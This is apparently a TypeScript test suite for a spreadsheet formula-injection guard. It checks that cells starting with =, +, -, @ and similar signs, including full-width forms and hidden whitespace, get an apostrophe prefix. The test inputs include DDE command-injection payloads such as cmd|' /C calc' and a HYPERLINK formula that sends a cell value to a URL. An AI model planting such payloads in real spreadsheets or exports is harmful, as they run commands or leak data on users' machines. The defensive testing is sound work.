import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { guardFormula } from '#lib/datasets/label-rows.ts'

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%']

describe('a cell for a spreadsheet', () => {
  it.each([
    ['=1+1'],
    ['=HYPERLINK("http://example.org/?"&A1,"more")'],
    ["=cmd|' /C calc'!A0"],
    ['+1'],
    ['-1'],
    ["-2+3+cmd|' /C calc'!D2"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\tno formula'],
    ['\r=1+1'],
    ['\rno formula'],
    ['\n=1+1'],
    ['\nno formula'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(1)'],
    [' =1+1'],
    ['   =1+1'],
    [' \t \r\n =1+1'],
    ['\u00a0=1+1'],
    ['\u3000＝1+1'],
    ['\ufeff=1+1'],
    ['\u200b=1+1'],
    ['\u0000=1+1'],
    ['\u001f=1+1'],
    ['=1+1\nmore lines'],
    ['\n\n\n=1+1'],
  ])('takes %j for text', (cell) => {
    expect(guardFormula(cell)).toBe(`'${cell}`)
  })

  it.each([
    [''],
    ['fine'],
    ['1'],
    ['1-1=0'],
    ['a = b'],
    ['first line\n=1+1'],
    ['"=1+1"'],
    ["'=1+1"],
    ['(=1+1)'],
    ['2026-11-22T12:00:00.000Z'],
    ['01890000-0000-7000-8000-000000000001'],
    [' fine'],
    ['é'],
    ['👍 = good'],
  ])('leaves %j as it is', (cell) => {
    expect(guardFormula(cell)).toBe(cell)
  })

  it('never starts with what a spreadsheet runs, whatever white space stands before', () => {
    const blank = fc.string({
      unit: fc.constantFrom(' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\u2003'),
      maxLength: 5,
    })
    fc.assert(
      fc.property(blank, fc.constantFrom(...SIGNS), fc.string({ unit: 'binary' }), (before, sign, after) => {
        expect(guardFormula(before + sign + after)).toBe(`'${before}${sign}${after}`)
      }),
    )
  })

  it('keeps every character of the text, with at most one apostrophe before', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (cell) => {
        expect([cell, `'${cell}`]).toContain(guardFormula(cell))
      }),
    )
  })
})
